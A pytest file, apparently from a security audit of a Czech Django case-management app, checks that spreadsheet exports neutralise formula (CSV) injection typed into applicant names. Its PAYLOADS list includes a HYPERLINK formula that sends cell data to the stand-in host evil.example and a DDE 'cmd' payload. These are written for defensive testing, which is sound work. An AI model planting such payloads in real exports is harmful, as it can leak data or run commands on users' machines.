"""Finding 1: a formula typed as an applicant's name stays text in every XLSX and CSV export."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.workflows.factories import CaseFactory, TaskFactory, days
from workflows.exports import csv_safe, is_formula_like

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Otevřít")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]

LISTS = [  # (who, url) — the inbox, queue, team and search lists with their exports
    ("referent", "/ukoly/"),
    ("referent2", "/fronta/"),
    ("vedouci", "/tym/"),
    ("referent", "/hledat/?q=25596641"),
]


@pytest.fixture
def poisoned(demo_users):
    for i, name in enumerate(PAYLOADS):
        case = CaseFactory(title=f"Export {i}", applicant_name=name, deadline=days(3 + i))
        TaskFactory(case=case, owner=demo_users["referent"] if i % 2 == 0 else None)
    # the team list and the queue see the same cases whoever owns them
    return PAYLOADS


def _sep(url):
    return "&" if "?" in url else "?"


@pytest.mark.parametrize("who,url", LISTS)
def test_xlsx_export_has_no_formula_cells(client, demo_users, poisoned, who, url):
    client.force_login(demo_users[who])
    response = client.get(url + _sep(url) + "export=xlsx")
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = []
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (url, cell.coordinate, cell.value)
            values.append(cell.value)
    present = [p for p in PAYLOADS if p in values or p.strip() in values]
    assert present, f"žádný testovací název se v exportu {url} neobjevil"
    # the name is kept exactly as typed (a text cell), not altered
    assert all(p in values for p in present)


@pytest.mark.parametrize("who,url", LISTS)
def test_csv_export_cells_cannot_start_a_formula(client, demo_users, poisoned, who, url):
    client.force_login(demo_users[who])
    response = client.get(url + _sep(url) + "export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    assert cells
    for cell in cells:
        assert not is_formula_like(cell), (url, cell)
    assert any(c.startswith("'") and c[1:] in PAYLOADS for c in cells)


def test_registry_csv_export_is_neutralised_too(demo_users):
    from registrations import selectors

    assert csv_safe("=1+1") == "'=1+1" and csv_safe("Domov") == "Domov" and csv_safe(5) == 5
    assert "'" + PAYLOADS[0] == csv_safe(PAYLOADS[0])
    assert selectors.PUBLIC_COLUMNS  # the registry export writes every column through csv_safe


def test_negative_numbers_and_dates_are_untouched():
    assert csv_safe(-5) == -5
    assert not is_formula_like("Domov - Cheb") and is_formula_like("-Cheb")
